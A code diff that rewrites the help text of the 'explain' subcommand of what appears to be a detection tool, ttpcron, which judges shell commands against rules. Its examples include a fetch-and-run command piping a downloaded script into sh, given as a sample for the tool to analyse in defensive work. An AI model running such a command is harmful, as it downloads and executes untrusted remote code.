@@ -25,28 +25,29 @@ func explainCommand() *command {
 	tag := fs.String("tag", "", "explain the stored tag with this `UUID` instead of a command")
 	var about correlationQuestion
 	about.define(fs)
-	event := fs.Bool("event", false, "the argument is an event of any kind: in the native JSON form, or the id of a stored one")
+	event := fs.Bool("event", false, "the argument is an event: native JSON, or the id of a stored event")
 	return &command{
 		Name: "explain", Args: "COMMAND", Short: "show which rules match a command, and why", Flags: fs, Unstored: true,
-		Text: `Judges one shell command as a run would: how it is taken apart, which rules match,
-on which part of it, and what they emit. Several arguments are joined by blanks;
-- reads the command from standard input. Works without a store; where there is
-one, the states of its rules are applied.
+		Text: `Judges one shell command as a run would: how it is parsed, which rules match, on
+which part of it, and what they emit. Several arguments are joined by spaces; -
+reads the command from standard input. It needs no store. If there is one, its
+rule states apply.
 
---tag shows what a stored tag came of: its event, the rule and version that made
-it, which test of the rule saw what, and whether the rule as it is now would make
-it, or why not. ttpcron tags --uuid shows the UUIDs, and --json those of all tags.
-Of a tag of a correlation, a rule over several events, it lists the events that
-counted, in the order of time, with what was reached at each.
+--tag shows where a stored tag came from: its event, the rule and version that
+made it, and which test of the rule matched what. It also says whether the
+present rule would make it, or why not. ttpcron tags --uuid shows UUIDs, and
+tags --json has those of all tags. For a correlation's tag it lists the events
+that counted, in order, and what was reached at each.
 
---correlation says how far a group came in such a rule, when it came closest, and
-what was missing. The group is that with the value of --group, an address or a
-user name or whatever the rule groups by; where several fit, they are listed.
-Rules are taken as their files have them, whatever their state.
+--correlation shows how close a group came to satisfying a correlation: when it
+came closest, and what was missing. --group names the group by its value: an
+address, a user name, or another value that the rule groups by. If several
+groups match, they are listed. Rules are used as their files define them,
+whatever their state.
 
---event judges a login, a file, a tunnel or any other event. The id of a stored
-one is its source_id, which tags --json and export-events show; the days of the
-history are searched for it, the newest first.`,
+--event judges a login, a file, a tunnel or any other event. A stored event is
+named by its source_id, which tags --json and export-events show. The search
+goes through the history from the newest day.`,
 		Examples: `ttpcron explain "cd /tmp; wget http://203.0.113.9/x.sh -O- | sh"
 echo 'cat /proc/cpuinfo' | ttpcron explain -
 ttpcron explain --tag 9aa491e5-f03b-5d8f-9eb5-161becedcdd6
